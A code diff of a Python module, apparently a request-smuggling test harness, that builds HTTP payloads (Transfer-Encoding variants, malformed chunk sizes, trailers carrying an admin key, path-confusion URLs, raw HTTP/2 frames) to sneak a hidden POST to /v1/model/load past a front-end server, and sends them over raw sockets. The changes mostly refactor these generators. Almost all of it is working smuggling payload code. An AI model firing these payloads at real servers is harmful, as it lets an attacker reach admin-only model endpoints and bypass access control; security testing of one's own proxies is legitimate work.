@@ -18,8 +18,7 @@ ADMIN = b"7d793037a0760186574b0282f2f435e7"
 _BODY = b"Content-Length: 2\r\n\r\n{}"
 HIDDEN = b"POST /v1/model/load HTTP/1.1\r\nHost: x\r\nX-Admin-Key: " + ADMIN + b"\r\n" + _BODY
 LAST = b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
-_PATIENCE = 2.0
-"""Seconds without a byte after which a front is not going to answer any more."""
+_PATIENCE = 2.0  # seconds without a byte, after which a front is not going to answer
 Attacks = Iterator[tuple[str, bytes]]
 
 
@@ -59,12 +58,8 @@ def _framed() -> Attacks:
         b"Transfer_Encoding: chunked", b"Transfer-Encoding:", b"Transfer-Encoding: chunke\xe4",
     ):  # fmt: skip
         size = b"Content-Length: %d" % len(chunked)
-        yield f"TE.TE {line!r}", asking(b"/v1/completions", size, line) + b"\r\n" + chunked
-        yield f"TE.TE {line!r} alone", asking(b"/v1/completions", line) + b"\r\n" + chunked
-        yield (
-            f"TE.TE {line!r} 4",
-            asking(b"/v1/completions", line, b"Content-Length: 4") + (b"\r\n" + short),
-        )
+        for lines, body in (((size, line), chunked), ((line,), chunked), ((line, size), short)):
+            yield f"TE.TE {lines!r}", asking(b"/v1/completions", *lines) + b"\r\n" + body
 
 
 def _lengths() -> Attacks:
@@ -114,15 +109,6 @@ def _chunked() -> Attacks:
         "no end of data": b"2\r\n{}0\r\n\r\n",
         "two of anything for an end": b"2\r\n{}xx0\r\n\r\n",
         "LF ends all": b"2\n{}\n0\n\n",
-        "0x": b"0x2\r\n{}\r\n0\r\n\r\n",
-        "sign": b"+2\r\n{}\r\n0\r\n\r\n",
-        "minus": b"-2\r\n{}\r\n0\r\n\r\n",
-        "underscore": b"0_2\r\n{}\r\n0\r\n\r\n",
-        "space": b"2 \r\n{}\r\n0\r\n\r\n",
-        "space before": b" 2\r\n{}\r\n0\r\n\r\n",
-        "empty size": b"\r\n{}\r\n0\r\n\r\n",
-        "too large": b"10000000000000002\r\n{}\r\n0\r\n\r\n",
-        "far too large": b"f" * 40 + b"\r\n{}\r\n0\r\n\r\n",
         "trailer": b"2\r\n{}\r\n0\r\nX-Admin-Key: %b\r\nAuthorization: Bearer %b\r\n\r\n"
         % (ADMIN, ADMIN),
         "trailer with length": b"2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
@@ -131,6 +117,10 @@ def _chunked() -> Attacks:
         "lone CR ends": b"2\r\n{}\r\n0\r\n\rX",
     }.items():
         yield f"chunk {name}", head + body + HIDDEN
+    for size in (
+        b"0x2", b"+2", b"-2", b"0_2", b"2 ", b" 2", b"", b"10000000000000002", b"f" * 40,
+    ):  # fmt: skip
+        yield f"chunk of {size!r}", head + size + b"\r\n{}\r\n0\r\n\r\n" + HIDDEN
     yield "chunked in HTTP/1.0", (
         asking(b"/v1/completions", b"Transfer-Encoding: chunked", b"Connection: keep-alive",
                version=b"HTTP/1.0") + b"\r\n0\r\n\r\n" + HIDDEN
@@ -174,21 +164,23 @@ TARGETS = (
     b"/v1/model/load;x", b"/v1/model/load;", b"/v1/model;x/load", b"/v1/model/load?", b"/v1/x#",
     b"/v1/model/load?x", b"/v1/model/load?x=/v1/models", b"/v1/model/load#", b"/v1/model/load#x",
     b"/v1/model/load#%zz", b"/v1/model/load?%zz", b"/v1/model/load%zz", b"/v1/model/load#%",
-    b"/v1/model/load#?x", b"/v1/model/load?#x", b"/v1/model/load#/../../models", b"#/v1/model/load",
-    b"/v1/model/load?/../../models", b"/v1/models?/../model/load", b"/v1/model\\load",
-    b"/v1/model/%5cload", b"\\v1\\model\\load", b"/V1/MODEL/LOAD", b"/v1/model/LOAD",
-    b"http://x/v1/model/load", b"HTTP://x/v1/model/load", b"http://x//v1/model/load",
-    b"http:///v1/model/load", b"http:/v1/model/load", b"http:v1/model/load", b"//x/v1/model/load",
-    b"http://x:80/v1/model/load", b"http://u:p@x/v1/model/load", b"https://x/v1/model/load",
-    b"http://x#/v1/model/load", b"http://x/v1/model/load#x", b"http://x/v1/model/load#%zz",
-    b"http://x?/v1/model/load", b"http://127.0.0.1:5000/v1/model/load", b"ftp://x/v1/model/load",
-    b"x:/v1/model/load", b"v1/model/load", b"*", b"*/v1/model/load", b"@x/v1/model/load",
-    b"x:80", b"x:80/v1/model/load", b"/v1/model/load\x00", b"/v1/model/load\t", b"/v1/model/load\xa0",
-    b"/v1/model/load\x0b", b"/\x00/v1/model/load", b"/v1/model/load HTTP/1.1 x", b" /v1/model/load",
-    b"/v1/model/load\r", b"/v1/model/l\xc3\xb6ad", b"/v1/model/%c5%bfoad", b"/v1/model/%ef%bd%8coad",
-    b"/v1/model/loa%c0%a4", b"/v1/model/unload", b"/v1/model/embedding/load", b"/v1/download",
-    b"/v1/model/embedding/unload#", b"/v1/lora/load", b"/v1/lora/unload", b"/v1/template/switch",
-    b"/v1/template/unload", b"/v1/sampling/override/switch", b"/v1/sampling/override/unload",
+    b"/v1/model/load#?x", b"/v1/model/load?#x", b"/v1/model/load#/../../models",
+    b"#/v1/model/load", b"/v1/model/load?/../../models", b"/v1/models?/../model/load",
+    b"/v1/model\\load", b"/v1/model/%5cload", b"\\v1\\model\\load", b"/V1/MODEL/LOAD",
+    b"/v1/model/LOAD", b"http://x/v1/model/load", b"HTTP://x/v1/model/load",
+    b"http://x//v1/model/load", b"http:///v1/model/load", b"http:/v1/model/load",
+    b"http:v1/model/load", b"//x/v1/model/load", b"http://x:80/v1/model/load",
+    b"http://u:p@x/v1/model/load", b"https://x/v1/model/load", b"http://x#/v1/model/load",
+    b"http://x/v1/model/load#x", b"http://x/v1/model/load#%zz", b"http://x?/v1/model/load",
+    b"http://127.0.0.1:5000/v1/model/load", b"ftp://x/v1/model/load", b"x:/v1/model/load",
+    b"v1/model/load", b"*", b"*/v1/model/load", b"@x/v1/model/load", b"x:80",
+    b"x:80/v1/model/load", b"/v1/model/load\x00", b"/v1/model/load\t", b"/v1/model/load\xa0",
+    b"/v1/model/load\x0b", b"/\x00/v1/model/load", b"/v1/model/load HTTP/1.1 x",
+    b" /v1/model/load", b"/v1/model/load\r", b"/v1/model/l\xc3\xb6ad", b"/v1/model/%c5%bfoad",
+    b"/v1/model/%ef%bd%8coad", b"/v1/model/loa%c0%a4", b"/v1/model/unload",
+    b"/v1/model/embedding/load", b"/v1/download", b"/v1/model/embedding/unload#", b"/v1/lora/load",
+    b"/v1/lora/unload", b"/v1/template/switch", b"/v1/template/unload",
+    b"/v1/sampling/override/switch", b"/v1/sampling/override/unload",
 )  # fmt: skip
 
 
@@ -239,17 +231,13 @@ def _switches() -> Attacks:
 def _http2(*fields: tuple[bytes, bytes]) -> bytes:
     """A request in HTTP/2, without asking whether it is understood (RFC 9113, RFC 7541)."""
     every = ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), *fields)
-    block = b"".join(b"\0" + _text(name) + _text(value) for name, value in every)
+    block = b"".join(b"\0%c%b%c%b" % (len(name), name, len(value), value) for name, value in every)
     frames = (4, 0, 0, b""), (1, 4, 1, block), (0, 1, 1, HIDDEN)
     told = b"".join(
         len(load).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + load
         for kind, flags, stream, load in frames
     )
     return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + told
-
-
-def _text(value: bytes) -> bytes:
-    return bytes((len(value),)) + value
 
 
 def _lines() -> Attacks:
@@ -279,11 +267,11 @@ def attacks() -> dict[str, bytes]:
 def say(host: str, port: int, said: bytes) -> bytes:
     """Says it on one connection, a last request behind it, and gives what came back."""
     came = b""
-    with socket.create_connection((host, port), _PATIENCE) as connection:
-        with contextlib.suppress(OSError):
-            connection.sendall(said + LAST)
-            while part := connection.recv(65536):
-                came += part
+    connection = socket.create_connection((host, port), _PATIENCE)
+    with connection, contextlib.suppress(OSError):
+        connection.sendall(said + LAST)
+        while part := connection.recv(65536):
+            came += part
     return came
 
 
